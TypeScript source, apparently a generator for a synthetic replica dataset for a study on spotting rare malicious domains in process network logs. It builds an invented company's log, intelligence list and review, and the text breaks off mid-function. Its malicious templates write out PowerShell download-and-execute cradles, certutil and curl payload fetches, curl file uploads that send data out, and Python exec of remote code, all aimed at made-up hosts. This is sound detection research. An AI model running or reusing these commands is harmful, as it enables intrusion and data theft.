/**
 * Makes the replica of the study ("Scarcity signals", Cisco Talos, 2025): a small log, an intelligence list and a
 * review from which every figure of the study follows. `npm run make-replica` writes them into src/replica/.
 *
 * The way: sizes (connections of each base domain) -> sites (a name and its FQDNs) -> contacts (rows) -> text.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { below, between, createRandom, madeUpWord, pick, pickWeighted, shuffled, splitSum, type Random } from './random';

/** Change it and every made-up detail changes; the figures of the study stay. */
const seed = 20250523;

/** The three files, as text. */
export interface Replica {
  readonly events: string;
  readonly intelligence: string;
  readonly review: string;
}

/** What the maker holds of a base domain; `flagged` is called malicious by intelligence and benign by the review. */
type Standing = 'benign' | 'malicious' | 'flagged';

interface Fqdn {
  readonly name: string;
  readonly connections: number;
}

interface Site {
  readonly baseDomain: string;
  readonly fqdns: readonly Fqdn[];
  readonly rare: boolean;
  readonly standing: Standing;
}

/** One row of the log. */
interface Contact {
  readonly second: number;
  readonly host: string;
  readonly user: string;
  readonly image: string;
  readonly arguments: string;
  readonly remoteHost: string;
  readonly count: number;
}

// ---------------------------------------------------------------------------------------------------------------
// Sizes: how many connections each base domain has.

/** A base domain that has no name yet. */
interface Size {
  readonly connections: number;
  readonly rare: boolean;
}

/** Connections by rank: `few` base domains with 1 to 5, a rising curve, and the most frequent, which make up the sum. */
interface Shape {
  readonly connections: number;
  readonly rareCount: number;
  /** Base domains with at most 5 connections. */
  readonly fewCount: number;
  /** [rank from 0, connections]; geometric in between. The first follows the `few`. */
  readonly curve: readonly (readonly [rank: number, connections: number])[];
  /** How many, above the curve, share what is left of the sum. */
  readonly frequentCount: number;
  /** Above all; given by the study. */
  readonly top: readonly number[];
}

/** Shares of 1, 2, 3, 4 and 5 connections among the `few`: most rare domains are seen once. */
const fewShares = [0.46, 0.24, 0.14, 0.09, 0.07];

function fewConnections(count: number): number[] {
  const limits = fewShares.map((_, index) => fewShares.slice(0, index + 1).reduce((sum, share) => sum + share, 0));
  return Array.from({ length: count }, (_, rank) => 1 + limits.findIndex((limit) => (rank + 0.5) / count < limit));
}

function curveConnections(curve: Shape['curve']): number[] {
  const [first, ...rest] = curve;
  if (first === undefined) return [];
  const result = [first[1]];
  let [rank, connections] = first;
  for (const [nextRank, nextConnections] of rest) {
    const steps = nextRank - rank;
    for (let step = 1; step <= steps; step++) {
      result.push(Math.round(connections * (nextConnections / connections) ** (step / steps)));
    }
    [rank, connections] = [nextRank, nextConnections];
  }
  return result;
}

/** `count` rising numbers, each 1.75 times the one before, that sum to `total`. */
function risingShares(total: number, count: number): number[] {
  const weights = Array.from({ length: count }, (_, index) => 1.75 ** index);
  const weightSum = weights.reduce((sum, weight) => sum + weight, 0);
  const shares = weights.map((weight) => Math.floor((total * weight) / weightSum));
  const rest = total - shares.reduce((sum, share) => sum + share, 0);
  return shares.map((share, index) => (index === count - 1 ? share + rest : share));
}

function sizesOf(random: Random, shape: Shape): Size[] {
  const few = fewConnections(shape.fewCount);
  const curve = curveConnections(shape.curve);
  const sum = [...few, ...curve, ...shape.top].reduce((total, connections) => total + connections, 0);
  const frequent = risingShares(shape.connections - sum, shape.frequentCount);
  if ((frequent[0] ?? 0) < (curve.at(-1) ?? 0)) throw new RangeError('the curve leaves too little for the frequent');
  // Rare in spite of more than 5 connections: spread over many FQDNs. 38 is the study's githubusercontent.com.
  const spread = curve.flatMap((connections, index) => (connections <= 36 ? [index] : []));
  const rare = new Set(shuffled(random, spread).slice(0, shape.rareCount - shape.fewCount));
  return [
    ...few.map((connections) => ({ connections, rare: true })),
    ...curve.map((connections, index) => ({ connections, rare: rare.has(index) })),
    ...[...frequent, ...shape.top].map((connections) => ({ connections, rare: false })),
  ];
}

// ---------------------------------------------------------------------------------------------------------------
// Names: what the base domains and their FQDNs are called.

/** Labels in front of real names; `{word}` becomes a made-up tenant. */
const knownLabels: Readonly<Record<string, readonly string[]>> = {
  'adobe.com': ['get', 'download', 'ardownload2', 'armmf', 'ccmdls'],
  'amazonaws.com': [
    's3', 's3.us-east-1', 's3.eu-west-1', 'ssm.us-east-1', 'ec2messages.us-east-1', 'logs.eu-west-1', 'sts',
    '{word}.s3', '{word}.s3', '{word}.s3', '{word}.s3', '{word}.s3.us-west-2', '{word}.s3.eu-central-1',
    '{word}.execute-api.us-east-1', '{word}.execute-api.eu-west-1', '{word}.elb.us-east-1',
  ],
  'anaconda.com': ['repo', 'conda'],
  'apple.com': ['swcdn', 'gdmf', 'mesu', 'www'],
  'automox.com': ['api', 'console', 'agent'],
  'azurewebsites.net': ['{word}', '{word}-api', '{word}-func', '{word}-prod'],
  'chocolatey.org': ['community', 'packages', 'www'],
  'cloudfront.net': ['d{word}', 'd1{word}', 'd2{word}', 'd3{word}'],
  'digicert.com': ['ocsp', 'crl3', 'crl4', 'cacerts'],
  'docker.com': ['download', 'hub', 'desktop'],
  'github.com': ['', 'api', 'codeload', 'gist'],
  'herokuapp.com': ['{word}', '{word}-staging'],
  'launchdarkly.com': ['app', 'events', 'clientstream', 'clientsdk', 'mobile'],
  'live.com': ['login', 'account', 'storage'],
  'microsoft.com': ['www', 'download', 'go', 'learn', 'graph', 'onegetcdn', 'settings-win.data', 'v10.events.data'],
  'microsoftonline.com': ['login', 'device.login', 'provisioningapi'],
  'msn.com': ['www', 'api', 'assets', 'ntp'],
  'nuget.org': ['api', 'www', 'dist'],
  'office.com': ['www', 'outlook', 'config', 'ecs'],
  'office365.com': ['outlook', 'reports', 'ps.compliance.protection'],
  'powershellgallery.com': ['www', 'psg-prod-eastus'],
  'pypi.org': ['', 'upload'],
  'python.org': ['www', 'docs', 'bootstrap'],
  'pythonhosted.org': ['files'],
  'trycloudflare.com': ['{word}-{word}', '{word}-{word}-{word}'],
  'vercel.app': ['{word}', '{word}-docs'],
  'visualstudio.com': ['dc.services', 'marketplace', '{word}'],
  'windows.com': ['fe3cr.delivery.mp', 'settings', 'client.wns', 'licensing.mp'],
  'windows.net': ['{word}.blob.core', '{word}.blob.core', '{word}.table.core', '{word}.vault.core', 'login'],
  'windowsupdate.com': ['ctldl', 'download', 'au.download'],
  'workers.dev': ['{word}.{word}', 'api.{word}', 'cdn.{word}'],
};

const commonLabels = [
  'www', 'api', 'cdn', 'download', 'updates', 'static', 'telemetry', 'files', 'auth', 'portal', 'assets', 'status',
  'eu', 'us-east', 'get', 'repo', 'mirror', 'config', 'events', 'img', 'support', 'licensing', 'm', 'data',
];

const suffixes: readonly (readonly [suffix: string, weight: number])[] = [
  ['com', 46], ['net', 9], ['org', 7], ['io', 7], ['co.uk', 4], ['de', 4], ['com.au', 2], ['co.jp', 2], ['dev', 3],
  ['cloud', 2], ['app', 2], ['fr', 2], ['nl', 2], ['ca', 1], ['se', 1], ['ch', 1], ['eu', 1], ['com.br', 1],
  ['co.nz', 1], ['ai', 1], ['tech', 1], ['info', 1], ['it', 1], ['es', 1], ['pl', 1], ['us', 1], ['co', 1],
];
const flaggedSuffixes = ['com', 'net', 'io', 'org', 'co.uk', 'de', 'info', 'cloud'];
const maliciousSuffixes = ['top', 'xyz', 'icu', 'click', 'live', 'info', 'com', 'net', 'cc', 'shop'];

/** Hands out names that were not handed out before. */
class Names {
  private readonly used = new Set<string>(Object.keys(knownLabels));
  /** Made-up benign base domains, for other groups to contact as well. */
  readonly shared: string[] = [];

  constructor(private readonly random: Random) {}

  benign(): string {
    const { random } = this;
    const name = this.fresh(() => {
      const word = madeUpWord(random, pickWeighted(random, [[2, 6], [3, 5]]));
      const tail = pickWeighted(random, [['', 8], ['-cloud', 1], ['soft', 1], ['labs', 1], ['systems', 1], ['hub', 1]]);
      return `${word}${tail}.${pickWeighted(random, suffixes)}`;
    });
    this.shared.push(name);
    return name;
  }

  /** Carries the word `replica`, so that no real domain is called bad. */
  suspicious(endings: readonly string[]): string {
    const { random } = this;
    return this.fresh(() => {
      const word = madeUpWord(random, 2);
      const stem = pick(random, [`${word}-replica`, `replica-${word}`, `${word}-replica-${pick(random, commonLabels)}`]);
      return `${stem}.${pick(random, endings)}`;
    });
  }

  private fresh(make: () => string): string {
    let name = make();
    while (this.used.has(name)) name = make();
    this.used.add(name);
    return name;
  }
}

/** A label in front of `baseDomain`; '' is the base domain itself. */
function labelFor(random: Random, baseDomain: string, position: number): string {
  const known = knownLabels[baseDomain];
  // Beyond its known labels, a cloud's tenants go on; others get common labels, and numbers at last.
  const tenants = known?.filter((label) => label.includes('{word}')) ?? [];
  if (known !== undefined && (position < known.length || tenants.length > 0)) {
    return (known[position] ?? pick(random, tenants)).replaceAll('{word}', () => madeUpWord(random, 2));
  }
  const label = pick(random, commonLabels);
  return position < 2 && random() < 0.25 ? '' : random() < 0.12 ? `${label}${between(random, 1, 9)}` : label;
}

function fqdnNames(random: Random, baseDomain: string, count: number): string[] {
  const names = new Set<string>();
  for (let attempt = 0; names.size < count; attempt++) {
    const label = labelFor(random, baseDomain, attempt);
    names.add(label === '' ? baseDomain : `${label}.${baseDomain}`);
  }
  return [...names];
}

/** As many FQDNs as keep a rare base domain at a mean of at most 5, and a common one above it. */
function fqdnCount(random: Random, baseDomain: string, { connections, rare }: Size): number {
  if (rare && connections <= 5) return connections > 1 && random() < 0.2 ? 2 : 1;
  const least = Math.ceil(connections / 5);
  if (rare) return random() < 0.3 ? least + 1 : least;
  const wanted = knownLabels[baseDomain]?.length ?? pickWeighted(random, [[1, 8], [2, 4], [3, 1]]);
  return Math.min(least - 1, wanted);
}

function makeSite(random: Random, baseDomain: string, size: Size, standing: Standing): Site {
  const names = fqdnNames(random, baseDomain, fqdnCount(random, baseDomain, size));
  const connections = splitSum(random, size.connections, names.length);
  const fqdns = names.map((name, index) => ({ name, connections: connections[index] ?? 0 }));
  return { baseDomain, fqdns, rare: size.rare, standing };
}

// ---------------------------------------------------------------------------------------------------------------
// Machines and users: an invented company of some 2,000 machines.

type Machines = 'windows' | 'server' | 'mac' | 'linux';

const surnames = [
  'doe', 'abara', 'becker', 'castillo', 'dufour', 'eriksen', 'fontaine', 'garcia', 'haddad', 'ivanova', 'jensen',
  'kowalski', 'larsen', 'moreau', 'müller', 'nakamura', "o'neil", 'okafor', 'petrov', 'quist', 'rossi', 'sato',
  'tanaka', 'ueda', 'visser', 'weber', 'xu', 'yilmaz', 'zhang', 'smith-jones',
];

const padded = (value: number, width: number): string => String(value).padStart(width, '0');

const machineMakers: Readonly<Record<Machines, (random: Random) => string>> = {
  windows: (random) => (random() < 0.9 ? `WS-${padded(between(random, 1, 1650), 4)}` : `LT-${padded(between(random, 1, 180), 3)}`),
  server: (random) => `${pick(random, ['BUILD', 'SRV-SQL', 'SRV-APP', 'SRV-FILE', 'DC'])}-${padded(between(random, 1, 12), 2)}`,
  mac: (random) => `MAC-${padded(between(random, 1, 90), 3)}`,
  linux: (random) => `LNX-${padded(between(random, 1, 24), 2)}`,
};

/** Where malice was found: few machines, met by several groups. */
const strickenHosts = ['WS-0417', 'WS-0418', 'WS-1203', 'LT-044', 'WS-0962', 'WS-1377', 'LNX-07'];

const system = 'NT AUTHORITY\\SYSTEM';

function machinesOf(host: string): Machines {
  if (/^(WS|LT)/.test(host)) return 'windows';
  if (host.startsWith('MAC')) return 'mac';
  return host.startsWith('LNX') ? 'linux' : 'server';
}

/** Whom a workstation belongs to: `j.doe`. */
function ownerOf(host: string): string {
  const number = Number(host.replace(/\D/g, ''));
  return `${String.fromCharCode(97 + ((number * 7) % 26))}.${surnames[(number * 11) % surnames.length] ?? 'doe'}`;
}

/** Who runs something on `host`: its owner, or the system; services on a server. */
function userOf(random: Random, host: string, onlyOwner: boolean): string {
  switch (machinesOf(host)) {
    case 'server': return pick(random, [system, 'ACME\\svc-build', 'ACME\\svc-deploy']);
    case 'linux': return pick(random, ['root', 'builder']);
    case 'mac': return ownerOf(host);
    case 'windows': return !onlyOwner && random() < 0.3 ? system : `ACME\\${ownerOf(host)}`;
  }
}

// ---------------------------------------------------------------------------------------------------------------
// Times: from 1 June to 31 December 2024, UTC.

const firstSecond = Date.UTC(2024, 5, 1) / 1000;
const lastSecond = Date.UTC(2025, 0, 1) / 1000 - 1;

function isOfficeHours(second: number): boolean {
  const time = new Date(second * 1000);
  const day = time.getUTCDay();
  const hour = time.getUTCHours();
  return day >= 1 && day <= 5 && hour >= 7 && hour < 18;
}

/** A time within `seconds` after `start`, that likely falls into, or out of, office hours. */
function pickSecond(random: Random, when: 'office' | 'off', start = firstSecond, seconds = lastSecond - firstSecond): number {
  for (let attempt = 0; ; attempt++) {
    const second = Math.min(start + below(random, seconds + 1), lastSecond);
    const fits = isOfficeHours(second) === (when === 'office');
    if (fits || random() < 0.1 || attempt > 20) return second;
  }
}

const isoTime = (second: number): string => `${new Date(second * 1000).toISOString().slice(0, 19)}Z`;

// ---------------------------------------------------------------------------------------------------------------
// Arguments: what the processes were started with.

/** What arguments may mention. */
interface Scene {
  readonly random: Random;
  readonly fqdn: string;
  readonly user: string;
}

type MakeArguments = (scene: Scene) => string;

const profileFolder = ({ user }: Scene): string =>
  `C:\\Users\\${user.startsWith('ACME\\') ? user.slice(5) : 'Default'}`;
const number = ({ random }: Scene): number => between(random, 100, 9999);
const word = ({ random }: Scene): string => madeUpWord(random, 2);
const encoded = (command: string): string => Buffer.from(command, 'utf16le').toString('base64');
const script = ({ random }: Scene): string =>
  pick(random, ['inventory', 'sync', 'cleanup', 'patch-check', 'heartbeat', 'report', 'health', 'rotate-logs', 'licence']);

const benignPowerShell: readonly MakeArguments[] = [
  (scene) => `-NoProfile -ExecutionPolicy Bypass -File "C:\\ProgramData\\${word(scene)}\\${script(scene)}.ps1"`,
  (scene) => `-NonInteractive -NoLogo -File C:\\Scripts\\${script(scene)}.ps1 -Site ${pick(scene.random, ['HQ', 'EU1', 'US2'])}`,
  (scene) => `-ExecutionPolicy RemoteSigned -File \\\\SRV-FILE-01\\deploy\\${word(scene)}.ps1`,
  (scene) => `-Command "Invoke-WebRequest -Uri https://${scene.fqdn}/${word(scene)}.zip -OutFile C:\\Windows\\Temp\\${number(scene)}.zip"`,
  (scene) => `-Command "Invoke-RestMethod -Uri 'https://${scene.fqdn}/api/v${between(scene.random, 1, 4)}/${script(scene)}'"`,
  (scene) => `-NoProfile -Command "Test-NetConnection ${scene.fqdn} -Port 443"`,
  (scene) => `-NoProfile -EncodedCommand ${encoded(`iwr https://${scene.fqdn}`)}`,
  (scene) => `-Command "Get-Item C:\\Logs\\${word(scene)}.log | Select-Object Name, Length"`,
  (scene) => `-NoLogo -Command "& {Start-BitsTransfer -Source https://${scene.fqdn}/${number(scene)}.msi -Destination $env:TEMP}"`,
  (scene) => `"${profileFolder(scene)}\\Documents\\${word(scene)}.ps1"`,
  () => '-NoExit -NoLogo',
];

const maliciousPowerShell: readonly MakeArguments[] = [
  (scene) => `-nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${scene.fqdn}/${number(scene)}.ps1')"`,
  (scene) => `-NoP -NonI -W Hidden -Exec Bypass -Enc ${encoded(`iex(irm http://${scene.fqdn}/${word(scene)})`)}`,
  (scene) => `-ep bypass -c "iwr https://${scene.fqdn}/u${number(scene)}.txt -UseBasicParsing | iex"`,
  (scene) => `-w hidden -c "Invoke-RestMethod -Uri https://${scene.fqdn}/up -Method Post -InFile C:\\Users\\Public\\${word(scene)}.zip"`,
];

const benignRundll32: readonly MakeArguments[] = [
  () => 'C:\\Windows\\System32\\shell32.dll,Control_RunDLL inetcpl.cpl',
  () => 'C:\\WINDOWS\\system32\\davclnt.dll,DavSetCookie',
  ({ fqdn }) => `C:\\WINDOWS\\system32\\davclnt.dll,DavSetCookie ${fqdn}@SSL https://${fqdn}/`,
  () => 'C:\\Windows\\System32\\inetcpl.cpl,ClearMyTracksByProcess 8',
  () => 'C:\\Windows\\System32\\dfshim.dll,ShOpenVerbApplication',
  ({ fqdn }) => `dfshim.dll,ShOpenVerbApplication https://${fqdn}/setup.application`,
  (scene) => `"C:\\Program Files\\${word(scene)}\\${word(scene)}.dll",Start ${pick(scene.random, ['/update', '/check', '-s'])}`,
  () => 'url.dll,FileProtocolHandler',
  () => 'C:\\Windows\\System32\\LocationApi.dll,LocationNotificationWindows',
  () => '-localserver 22d8c27b-47a1-48d1-ad08-7da7abd79617',
];

const benignPython: readonly MakeArguments[] = [
  (scene) => `-m pip install ${word(scene)}==${between(scene.random, 0, 4)}.${between(scene.random, 0, 30)}`,
  (scene) => `-m pip install --index-url https://${scene.fqdn}/simple ${word(scene)}`,
  () => '-m pip install -r requirements.txt',
  (scene) => `${script(scene)}.py --host ${scene.fqdn} --retries ${between(scene.random, 1, 5)}`,
  (scene) => `-c "import requests; print(requests.get('https://${scene.fqdn}').status_code)"`,
  (scene) => `-c "import urllib.request, json; json.load(urllib.request.urlopen(""https://${scene.fqdn}/v1""))"`,
  () => '-m notebook --no-browser --port 8888',
  (scene) => `-u /opt/${word(scene)}/${script(scene)}.py`,
  (scene) => `-m ${word(scene)}.worker --queue ${script(scene)}`,
];

const benignScriptHost: readonly MakeArguments[] = [
  (scene) => `//B //NoLogo C:\\Scripts\\${script(scene)}.vbs`,
  (scene) => `//NoLogo "\\\\SRV-FILE-01\\netlogon\\${script(scene)}.js" ${pick(scene.random, ['HQ', 'EU1', 'US2'])}`,
  (scene) => `"C:\\Program Files\\${word(scene)}\\${word(scene)}.vbs" //T:60`,
  (scene) => `//E:jscript C:\\ProgramData\\${word(scene)}\\${script(scene)}.js ${scene.fqdn}`,
];

const maliciousScriptHost: readonly MakeArguments[] = [
  (scene) => `//B //NoLogo "${profileFolder(scene)}\\AppData\\Local\\Temp\\Temp1_Invoice.zip\\Invoice, ${number(scene)}.js"`,
  (scene) => `"${profileFolder(scene)}\\Downloads\\scan_${number(scene)}.pdf.js"`,
  (scene) => `//E:jscript C:\\Users\\Public\\${word(scene)}.tmp https://${scene.fqdn}/gate`,
];

const benignCmd: readonly MakeArguments[] = [
  (scene) => `/c curl -fsS https://${scene.fqdn}/${word(scene)}.cab -o %TEMP%\\${number(scene)}.cab`,
  (scene) => `/c ""C:\\Program Files\\${word(scene)}\\${script(scene)}.bat" /quiet"`,
  (scene) => `/d /s /c "npm view ${word(scene)} version"`,
  (scene) => `/c nslookup ${scene.fqdn} & ping -n 1 ${scene.fqdn}`,
  (scene) => `/c for %i in (${word(scene)},${word(scene)}) do C:\\Scripts\\${script(scene)}.cmd %i`,
];

const benignShell: readonly MakeArguments[] = [
  (scene) => `-c "curl -fsSL https://${scene.fqdn}/install.sh | sh"`,
  (scene) => `/usr/local/bin/${script(scene)}.sh --once`,
  (scene) => `-lc "git ls-remote https://${scene.fqdn}/${word(scene)}.git"`,
  (scene) => `-c "wget -q https://${scene.fqdn}/${word(scene)}.tar.gz -O /tmp/${number(scene)}.tgz"`,
  () => '-l',
];

const ownArguments: Readonly<Record<string, readonly MakeArguments[]>> = {
  'automox.com': [
    () => '-NoProfile -NonInteractive -ExecutionPolicy Bypass -File "C:\\ProgramData\\amagent\\evaluation.ps1"',
    () => '-NoProfile -NonInteractive -ExecutionPolicy Bypass -File "C:\\ProgramData\\amagent\\remediation.ps1"',
    (scene) => `-ExecutionPolicy Bypass -File "C:\\ProgramData\\amagent\\execcmd${number(scene)}.ps1"`,
  ],
  'launchdarkly.com': [
    () => '-NoProfile -File C:\\Tools\\flags\\relay.ps1 -Environment production',
    () => '-NoProfile -File C:\\Tools\\flags\\relay.ps1 -Environment test',
  ],
  'powershellgallery.com': [
    (scene) => `-Command "Install-Module -Name Az.Accounts, Az.Storage -RequiredVersion ${between(scene.random, 1, 5)}.0 -Force"`,
    () => '-NoProfile -Command "Update-Module -Name Pester, PSReadLine"',
  ],
  'chocolatey.org': [
    ({ fqdn }) => `-NoProfile -ExecutionPolicy Bypass -Command "iex ((New-Object System.Net.WebClient).DownloadString('https://${fqdn}/install.ps1'))"`,
    () => '-NoProfile -Command "choco upgrade all -y --limit-output"',
  ],
  'adobe.com': [
    () => '-NoProfile -ExecutionPolicy Bypass -File "C:\\Deploy\\Acrobat\\update-reader.ps1" -Channel "Continuous, DC"',
    ({ fqdn }) => `-Command "Invoke-WebRequest -Uri https://${fqdn}/pub/adobe/reader/win/AcrobatDC/ -OutFile C:\\Deploy\\Acrobat\\index.html"`,
  ],
};

// ---------------------------------------------------------------------------------------------------------------
// Groups: the study's figures, and plausible ones where it states none.

type Images = readonly (readonly [image: string, weight: number])[];

interface Recipe {
  readonly id: string;
  readonly shape: Shape;
  readonly maliciousRare: number;
  readonly maliciousCommon: number;
  /** Flagged by intelligence and reviewed benign, besides adobe.com. */
  readonly flagged: number;
  /** Real names for the most frequent, most frequent first. */
  readonly frequentNames: readonly string[];
  /** Clouds whose many tenants are contacted once or twice each. */
  readonly rareClouds: readonly string[];
  /** The machines that run the group, and as which image. */
  readonly runsOn: readonly (readonly [machines: Machines, weight: number])[];
  readonly images: Readonly<Partial<Record<Machines, Images>>>;
  readonly benign: readonly MakeArguments[];
  readonly malicious: readonly MakeArguments[];
}

/** A shape for the groups of which the study states, at most, the sums. */
function plainShape(connections: number, baseDomainCount: number, rareCount: number, curveEnd: number): Shape {
  const fewCount = Math.round(rareCount * 0.88);
  const frequentCount = Math.min(6, Math.ceil(baseDomainCount / 12));
  const lastRank = baseDomainCount - frequentCount - 1;
  return { connections, rareCount, fewCount, curve: [[fewCount, 6], [lastRank, curveEnd]], frequentCount, top: [] };
}

/**
 * The percentiles are interpolated at 741 * p of the sorted connections (R's type 7), ranks from 0:
 *
 *     P60 444.60   x[444] =    5, x[445] =    5  ->     5.00
 *     P90 666.90   x[666] =   82, x[667] =   82  ->    82.00
 *     P95 703.95   x[703] =  313, x[704] =  322  ->   321.55
 *     P99 733.59   x[733] = 7871, x[734] = 7964  -> 7,925.87
 */
const powerShellShape: Shape = {
  connections: 3_220_829,
  rareCount: 550,
  fewCount: 446,
  curve: [[446, 6], [666, 82], [667, 82], [703, 313], [704, 322], [733, 7871], [734, 7964]],
  frequentCount: 4,
  top: [166_536, 493_812, 2_282_308],
};

const windowsOnly: Recipe['runsOn'] = [['windows', 9], ['server', 1]];
const scriptHostImages = (name: string): Recipe['images'] => ({
  windows: [[`${name}.exe`, 8], [`${name[0]?.toUpperCase()}${name.slice(1)}.exe`, 2]],
  server: [[`${name}.exe`, 1]],
});

const recipes: readonly Recipe[] = [
  {
    id: 'powershell',
    shape: powerShellShape,
    maliciousRare: 9,
    maliciousCommon: 0,
    flagged: 28,
    frequentNames: [
      'automox.com', 'launchdarkly.com', 'amazonaws.com', 'windows.net', 'microsoft.com', 'powershellgallery.com',
      'microsoftonline.com', 'chocolatey.org', 'windowsupdate.com', 'nuget.org', 'office365.com', 'visualstudio.com',
      'github.com', 'digicert.com', 'azure.com', 'office.com', 'live.com', 'sharepoint.com', 'akamaized.net', 'docker.com',
      'mozilla.org', 'google.com', 'python.org', 'nodejs.org', 'vmware.com', 'dell.com', 'hp.com', 'lenovo.com',
      'tenable.com', 'elastic.co', 'jenkins.io', 'hashicorp.com', 'zoom.us', 'slack.com', 'citrix.com', 'oracle.com',
    ],
    rareClouds: ['azurewebsites.net', 'trycloudflare.com', 'cloudfront.net', 'herokuapp.com', 'workers.dev', 'vercel.app'],
    runsOn: [['windows', 8], ['server', 3], ['mac', 0.1]],
    images: {
      windows: [['powershell.exe', 70], ['PowerShell.exe', 8], ['POWERSHELL.EXE', 2], ['pwsh.exe', 9], ['powershell_ise.exe', 6]],
      server: [['powershell.exe', 70], ['pwsh.exe', 25], ['Powershell.exe', 5]],
      mac: [['pwsh', 1]],
    },
    benign: benignPowerShell,
    malicious: maliciousPowerShell,
  },
  {
    id: 'rundll32',
    shape: plainShape(156_203, 940, 722, 900),
    maliciousRare: 1,
    maliciousCommon: 0,
    flagged: 0,
    frequentNames: [
      'microsoft.com', 'windows.com', 'msn.com', 'live.com', 'windowsupdate.com', 'office.com', 'bing.com',
      'microsoftonline.com', 'digicert.com', 'skype.com', 'hp.com', 'nvidia.com', 'intel.com', 'dell.com', 'lenovo.com',
      'google.com', 'gstatic.com', 'sharepoint.com', 'akamaized.net', 'cloudflare.com', 'sectigo.com', 'entrust.net',
      'globalsign.com', 'epson.com', 'canon.com', 'logitech.com', 'realtek.com', 'citrix.com', 'webex.com', 'zoom.us',
    ],
    rareClouds: ['azurewebsites.net', 'cloudfront.net', 'windows.net'],
    runsOn: windowsOnly,
    images: scriptHostImages('rundll32'),
    benign: benignRundll32,
    malicious: [(scene) => `C:\\Users\\Public\\${word(scene)}.dat,DllRegisterServer`],
  },
  {
    id: 'python',
    shape: plainShape(795_346, 825, 616, 2800),
    maliciousRare: 0,
    maliciousCommon: 1,
    flagged: 0,
    frequentNames: [
      'amazonaws.com', 'pypi.org', 'pythonhosted.org', 'anaconda.com', 'github.com', 'googleapis.com', 'windows.net',
      'microsoft.com', 'slack.com', 'python.org', 'docker.com', 'datadoghq.com', 'sentry.io', 'atlassian.net', 'gitlab.com',
      'huggingface.co', 'snowflakecomputing.com', 'databricks.com', 'elastic.co', 'apple.com', 'salesforce.com', 'twilio.com',
      'pytorch.org', 'nvidia.com', 'conda.io', 'readthedocs.org', 'wikipedia.org', 'openweathermap.org', 'stripe.com',
    ],
    rareClouds: ['workers.dev', 'herokuapp.com', 'vercel.app', 'cloudfront.net'],
    runsOn: [['windows', 5], ['mac', 4], ['server', 2]],
    images: {
      windows: [['python.exe', 8], ['pythonw.exe', 2]],
      server: [['python.exe', 1]],
      mac: [['python3.11', 1]],
    },
    benign: benignPython,
    malicious: [
      ({ fqdn }) => `C:\\Users\\Public\\Libraries\\sync.py --relay ${fqdn} --interval 300`,
      ({ fqdn }) => `-c "import base64, urllib.request as u; exec(base64.b64decode(u.urlopen('http://${fqdn}/a').read()))"`,
    ],
  },
  {
    id: 'wscript',
    shape: plainShape(6_936, 82, 58, 110),
    maliciousRare: 5,
    maliciousCommon: 0,
    flagged: 0,
    frequentNames: ['microsoft.com', 'windowsupdate.com', 'office.com', 'digicert.com', 'hp.com', 'sap.com', 'lenovo.com'],
    rareClouds: ['cloudfront.net'],
    runsOn: windowsOnly,
    images: scriptHostImages('wscript'),
    benign: benignScriptHost,
    malicious: maliciousScriptHost,
  },
  {
    id: 'cmd',
    shape: plainShape(11_482, 131, 93, 140),
    maliciousRare: 3,
    maliciousCommon: 0,
    flagged: 0,
    frequentNames: ['microsoft.com', 'npmjs.org', 'github.com', 'windowsupdate.com', 'google.com', 'nodejs.org', 'oracle.com'],
    rareClouds: [],
    runsOn: windowsOnly,
    images: scriptHostImages('cmd'),
    benign: benignCmd,
    malicious: [
      (scene) => `/c certutil -urlcache -split -f http://${scene.fqdn}/${number(scene)}.txt %TEMP%\\${word(scene)}.exe`,
      (scene) => `/c curl -F "file=@C:\\Users\\Public\\${word(scene)}.rar" https://${scene.fqdn}/drop`,
    ],
  },
  {
    id: 'cscript',
    shape: plainShape(1_904, 46, 33, 60),
    maliciousRare: 2,
    maliciousCommon: 0,
    flagged: 0,
    frequentNames: ['microsoft.com', 'windowsupdate.com', 'office365.com', 'sap.com'],
    rareClouds: [],
    runsOn: [['server', 2], ['windows', 3]],
    images: scriptHostImages('cscript'),
    benign: benignScriptHost,
    malicious: maliciousScriptHost,
  },
  {
    id: 'bash',
    shape: plainShape(8_217, 96, 68, 120),
    maliciousRare: 1,
    maliciousCommon: 0,
    flagged: 0,
    frequentNames: ['github.com', 'ubuntu.com', 'amazonaws.com', 'docker.com', 'debian.org', 'gitlab.com', 'npmjs.org'],
    rareClouds: [],
    runsOn: [['linux', 3], ['mac', 1]],
    images: { linux: [['bash', 1]], mac: [['bash', 1]] },
    benign: benignShell,
    malicious: [({ fqdn }) => `-c "curl -s http://${fqdn}/x.sh | bash"`],
  },
  {
    id: 'zsh',
    shape: plainShape(3_655, 58, 41, 90),
    maliciousRare: 0,
    maliciousCommon: 0,
    flagged: 0,
    frequentNames: ['github.com', 'apple.com', 'brew.sh', 'npmjs.org', 'docker.com'],
    rareClouds: [],
    runsOn: [['mac', 1]],
    images: { mac: [['zsh', 1]] },
    benign: benignShell,
    malicious: [],
  },
  {
    id: 'csh',
    shape: plainShape(247, 13, 8, 20),
    maliciousRare: 0,
    maliciousCommon: 0,
    flagged: 0,
    frequentNames: ['cadence.com', 'synopsys.com'],
    rareClouds: [],
    runsOn: [['linux', 1]],
    images: { linux: [['csh', 1]] },
    benign: benignShell,
    malicious: [],
  },
];

// ---------------------------------------------------------------------------------------------------------------
// Sites: sizes with names.

/** Takes from `sizes`, and hands out, the first `count` that fit. */
function takeSizes(sizes: Size[], count: number, fits: (size: Size) => boolean): Size[] {
  const taken = sizes.filter(fits).slice(0, count);
  if (taken.length < count) throw new RangeError(`only ${taken.length} of ${count} sizes fit`);
  for (const size of taken) sizes.splice(sizes.indexOf(size), 1);
  return taken;
}

const isCommonAmong = (low: number, high: number) => (size: Size) =>
  !size.rare && size.connections >= low && size.connections <= high;

/** githubusercontent.com, whose figures the study gives down to the FQDN. */
const githubusercontent: Site = {
  baseDomain: 'githubusercontent.com',
  fqdns: [{ name: 'raw.githubusercontent.com', connections: 10 }, { name: 'objects.githubusercontent.com', connections: 28 }],
  rare: false,
  standing: 'benign',
};

function makeSites(random: Random, recipe: Recipe, names: Names): Site[] {
  const sizes = shuffled(random, sizesOf(random, recipe.shape));
  const site = (name: string, size: Size, standing: Standing): Site => makeSite(random, name, size, standing);
  const sites: Site[] = [];

  const malicious = [
    ...takeSizes(sizes, Math.floor(recipe.maliciousRare / 4), (size) => size.rare && size.connections > 5),
    ...takeSizes(sizes, Math.ceil((recipe.maliciousRare * 3) / 4), (size) => size.rare && size.connections <= 5),
    ...takeSizes(sizes, recipe.maliciousCommon, isCommonAmong(60, 400)),
  ];
